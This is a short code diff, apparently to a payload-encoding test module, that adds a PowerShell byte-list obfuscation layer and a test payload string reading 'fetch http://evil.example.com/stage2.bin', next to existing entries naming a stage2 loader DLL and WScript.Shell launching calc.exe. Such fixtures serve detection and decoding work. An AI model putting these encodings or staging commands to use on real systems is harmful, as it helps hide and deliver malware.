@@ -90,6 +90,7 @@ LAYERS = [
           and not any(c in p for c in b"\n\t\x0b\x0c"),
           val=lambda p: b"cmd /c " + p, wrap=(b"(", b")")),
 ]
+LAYERS.append(Layer("ps_bytes", lambda p: b",".join((b"0x%02x" % c) if i % 3 else (b"%d" % c) for i, c in enumerate(p)), "powershell.bytes", "", lambda p: len(p) >= 501))
 BY_NAME = {l.name: l for l in LAYERS}
 
 PAYLOADS = [
@@ -99,6 +100,7 @@ PAYLOADS = [
     b"C:\\Users\\Public\\stage2\\loader.dll -silent",
     b"nothing interesting in this payload at all",
     b"WScript.Shell run calc.exe then exit quietly",
+    b"fetch http://evil.example.com/stage2.bin and wait; " + b"lorem ipsum dolor sit amet consectetur " * 12 + b"end of the long payload",
 ]
 
 
